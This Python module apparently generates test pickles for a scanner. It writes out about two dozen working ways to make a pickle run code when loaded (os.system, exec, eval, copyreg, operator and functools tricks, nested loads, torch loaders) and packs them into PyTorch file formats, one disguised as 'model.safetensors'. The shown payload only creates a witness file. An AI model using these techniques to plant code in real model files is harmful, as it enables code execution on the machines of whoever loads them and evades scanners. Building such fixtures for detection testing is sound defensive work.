"""Pickles that run code when they are loaded, in as many ways as there are known.

Each is an expression in the language of pickles, put together here opcode by opcode, because what
writes pickles would not write most of them. All do the same: run a line of Python that creates a
file, the witness.
"""

import io
import pickle
import struct
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path

import torch

MARK, TUPLE, REDUCE, STOP, BUILD, NEWOBJ = b"(", b"t", b"R", b".", b"b", b"\x81"


def of(module: str, name: str) -> bytes:
    """GLOBAL: something in a module."""
    return f"c{module}\n{name}\n".encode()


def text(value: str) -> bytes:
    """BINUNICODE."""
    encoded = value.encode()
    return b"X" + struct.pack("<I", len(encoded)) + encoded


def data(value: bytes) -> bytes:
    """BINBYTES."""
    return b"B" + struct.pack("<I", len(value)) + value


def row(*items: bytes) -> bytes:
    """A tuple."""
    return MARK + b"".join(items) + TUPLE


def call(function: bytes, *arguments: bytes) -> bytes:
    """REDUCE."""
    return function + row(*arguments) + REDUCE


def command(line: str) -> bytes:
    """The same for a shell, as a text."""
    return text(f'python3 -c "{line}"')


SYSTEM, EXEC = of("os", "system"), of("builtins", "exec")
MODULE = call(of("importlib", "import_module"), text("os"))
EMPTY = b"}"

# By name, the body of a pickle from a line of Python.
TRICKS: dict[str, Callable[[str], bytes]] = {
    "os.system": lambda line: call(SYSTEM, command(line)),
    "posix.system": lambda line: call(of("posix", "system"), command(line)),
    "subprocess": lambda line: call(of("subprocess", "getoutput"), command(line)),
    "exec": lambda line: call(EXEC, text(line)),
    "eval": lambda line: call(of("builtins", "eval"), text(f"exec({line!r})")),
    "python 2 name": lambda line: call(of("__builtin__", "eval"), text(f"exec({line!r})")),
    "STACK_GLOBAL": lambda line: call(text("builtins") + text("exec") + b"\x93", text(line)),
    "dotted name": lambda line: call(text("shutil") + text("os.system") + b"\x93", command(line)),
    "INST": lambda line: MARK + text(line) + b"ibuiltins\nexec\n",
    "OBJ": lambda line: MARK + EXEC + text(line) + b"o",
    "NEWOBJ": lambda line: call(
        of("builtins", "list"), of("builtins", "map") + row(EXEC, row(text(line))) + NEWOBJ
    ),
    "copyreg": lambda line: call(
        of("builtins", "list"),
        call(of("copyreg", "__newobj__"), of("builtins", "map"), EXEC, row(text(line))),
    ),
    "getattr": lambda line: call(
        call(of("builtins", "getattr"), MODULE, text("system")), command(line)
    ),
    "attrgetter": lambda line: call(
        call(call(of("operator", "attrgetter"), text("system")), MODULE), command(line)
    ),
    "methodcaller": lambda line: call(
        call(of("operator", "methodcaller"), text("system"), command(line)), MODULE
    ),
    "partial": lambda line: call(call(of("functools", "partial"), EXEC, text(line))),
    "BUILD": lambda line: (
        call(of("functools", "partial"), of("builtins", "print"))
        + row(EXEC, row(text(line)), EMPTY, EMPTY)
        + BUILD
        + row()
        + REDUCE
    ),
    "memo": lambda line: EXEC + b"q\x05" + b"0" + call(b"h\x05", text(line)),
    "nested": lambda line: call(of("pickle", "loads"), data(pickled("exec", line))),
    "timeit": lambda line: call(
        of("timeit", "timeit"), text(line), text("pass"), of("time", "perf_counter"), b"K\x01"
    ),
    "runpy": lambda line: call(of("runpy", "_run_code"), text(line), EMPTY),
    "torch.load": lambda line: call(
        of("torch.storage", "_load_from_bytes"), data(_old_file(pickled("exec", line)))
    ),
    "in a state_dict": lambda line: (
        call(of("collections", "OrderedDict")) + text("weight") + call(EXEC, text(line)) + b"s"
    ),
}

# What there is in later protocols only.
NEW = {"STACK_GLOBAL", "dotted name"}


def pickled(trick: str, line: str) -> bytes:
    """A whole pickle that runs a line of Python."""
    protocol = 4 if trick in NEW else 2
    return b"\x80" + bytes([protocol]) + TRICKS[trick](line) + STOP


def _zip_file(trick: bytes, folder: str = "archive") -> bytes:
    """As ``torch.save`` writes it, which puts everything into one folder."""
    buffer, changed = io.BytesIO(), io.BytesIO()
    torch.save({"weight": torch.ones(4)}, buffer)
    with zipfile.ZipFile(buffer) as old, zipfile.ZipFile(changed, "w") as new:
        for entry in old.infolist():
            name = entry.filename.partition("/")[2]
            new.writestr(f"{folder}/{name}", trick if name == "data.pkl" else old.read(entry))
    return changed.getvalue()


def _old_file(trick: bytes) -> bytes:
    """As ``torch.save`` wrote it before it wrote zip files."""
    buffer = io.BytesIO()
    torch.save({"weight": torch.ones(4)}, buffer, _use_new_zipfile_serialization=False)
    buffer.seek(0)
    for _ in range(3):  # the magic number, the version, facts of the machine
        pickle.load(buffer)
    return buffer.getvalue()[: buffer.tell()] + trick + pickle.dumps([], 2)


def _oldest_file(trick: bytes) -> bytes:
    """As it was written before that."""
    buffer = io.BytesIO()
    none = pickle.dumps(0, 2) + pickle.dumps([], 2)
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, content in (("storages", none), ("tensors", none), ("pickle", trick)):
            entry = tarfile.TarInfo(name)
            entry.size = len(content)
            archive.addfile(entry, io.BytesIO(content))
    return buffer.getvalue()


# Every kind of file that PyTorch reads a pickle from.
FILES: dict[str, Callable[[bytes], bytes]] = {
    "zip": _zip_file,
    "renamed": lambda trick: _zip_file(trick, "model.safetensors"),
    "old": _old_file,
    "oldest": _oldest_file,
    "bare": lambda trick: trick,
}


def creating(witness: Path) -> str:
    """The line of Python that creates a file; it has no quotes but single ones."""
    return f"open('{witness}', 'w')"
